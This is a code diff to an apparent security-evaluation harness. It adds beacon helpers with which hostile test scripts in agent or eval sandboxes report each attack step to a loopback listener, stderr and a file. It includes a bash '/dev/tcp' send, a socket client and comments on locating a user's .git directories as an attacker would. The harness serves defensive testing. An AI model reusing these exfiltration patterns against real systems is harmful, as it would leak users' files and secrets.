@@ -14,6 +14,49 @@ export function shWrite(path: string, content: string): string {
 export const say = (description: string) => `echo '${description.replace(/'/g, "")}'\n`;
 
 /**
+ * A witness's line: `AUTOEXP-BEACON <runId> <step>: <what was tried: the result>`. Hostile code
+ * sends one per attack step over every channel it may have: the loopback port (works from inside
+ * an agent or eval sandbox while the network is on), its own stderr (the agent's log, the eval's
+ * log and log tail in the tag's state folder and record) and ctx.beaconFile (when visible). The
+ * judge gathers them from all of these.
+ */
+export const BEACON = "AUTOEXP-BEACON";
+
+/** A Node program for the loopback port: sends argv[1]; for "ASK ..." prints the answer. */
+const CLIENT = `const [line, port] = process.argv.slice(1); const s = require("node:net").connect(Number(port), "127.0.0.1", () => { s.write(line + "\\n"); if (!line.startsWith("ASK ")) s.end(); }); let out = ""; s.on("data", (c) => { out += c; }); s.on("end", () => process.stdout.write(out)); s.on("error", () => process.exit(1)); s.setTimeout(3000, () => { s.destroy(); process.exit(1); });`;
+
+/**
+ * Shell functions every agent script starts with (see security-run.ts):
+ * - `beacon STEP RESULT`: a witness line;
+ * - `attempt STEP COMMAND...`: runs the command and sends "ok (output)" or "failed, exit N: output";
+ * - `ask QUESTION`: the test's answer (`next`: this call's number; `decoy`: the decoy's pid file).
+ */
+export function agentPrelude(ctx: ScenarioContext): string {
+  return `__SEC_RUN='${ctx.runId}'
+__SEC_PORT=${ctx.exfilPort}
+__SEC_FILE='${ctx.beaconFile}'
+__SEC_CLIENT='${CLIENT}'
+__sec_send() {
+  node -e "$__SEC_CLIENT" "$1" "$__SEC_PORT" 2>/dev/null && return 0
+  bash -c 'printf "%s\n" "$1" > "/dev/tcp/127.0.0.1/$2"' _ "$1" "$__SEC_PORT" 2>/dev/null
+}
+beacon() {
+  __l="${BEACON} $__SEC_RUN $1: $(printf '%s' "$2" | tr '\n' ' ' | cut -c1-300)"
+  printf '%s\n' "$__l" >&2
+  printf '%s\n' "$__l" >> "$__SEC_FILE" 2>/dev/null
+  __sec_send "$__l" >/dev/null
+  return 0
+}
+attempt() {
+  __s=$1; shift
+  if __o=$("$@" 2>&1); then beacon "$__s" "ok\${__o:+ ($__o)}"; return 0; fi
+  __c=$?; beacon "$__s" "failed, exit $__c: $__o"; return $__c
+}
+ask() { node -e "$__SEC_CLIENT" "ASK $__SEC_RUN $1" "$__SEC_PORT" 2>/dev/null; }
+`;
+}
+
+/**
  * Helpers every hostile eval starts with: __exfil sends text to the test's loopback listener,
  * __gitDirs finds the user's .git the way an attacker would (git itself, the path it runs under,
  * and the working directories of its ancestors: autoexp runs in the user's repository),
@@ -72,6 +115,29 @@ function __findFiles(name) {
   visit(process.cwd(), 0);
   for (const g of __gitDirs()) visit(__path.join(g, "autoexp"), 0);
   return [...out];
+}
+function __beacon(step, result) {
+  const line = ${JSON.stringify(`${BEACON} ${ctx.runId} `)} + step + ": " + String(result).replace(/\\s+/g, " ").slice(0, 300);
+  try { __fs.writeSync(2, line + "\\n"); } catch {}
+  try { __fs.appendFileSync(${JSON.stringify(ctx.beaconFile)}, line + "\\n"); } catch {}
+  __exfil(line);
+}
+/** Runs an attack step and reports it: "ok <what it returned>" or the error's code or message. */
+function __try(step, fn) {
+  try {
+    const r = fn();
+    __beacon(step, "ok" + (r === undefined ? "" : " " + (typeof r === "string" ? r : JSON.stringify(r))));
+    return r;
+  } catch (e) {
+    __beacon(step, "failed: " + ((e && e.code) || String((e && e.message) || e)));
+    return undefined;
+  }
+}
+/** The test's answer to a question (see agentPrelude's ask), "" when it cannot be reached. */
+function __ask(question) {
+  try {
+    return __cp.execFileSync(process.execPath, ["-e", ${JSON.stringify(CLIENT)}, "ASK ${ctx.runId} " + question, String(__PORT)], { encoding: "utf8", timeout: 4000, stdio: ["ignore", "pipe", "ignore"] });
+  } catch { return ""; }
 }
 function __git(gitDir, args) {
   try { return __cp.execFileSync("git", ["--git-dir", gitDir, ...args], { encoding: "utf8", stdio: ["ignore", "pipe", "ignore"] }); } catch { return null; }
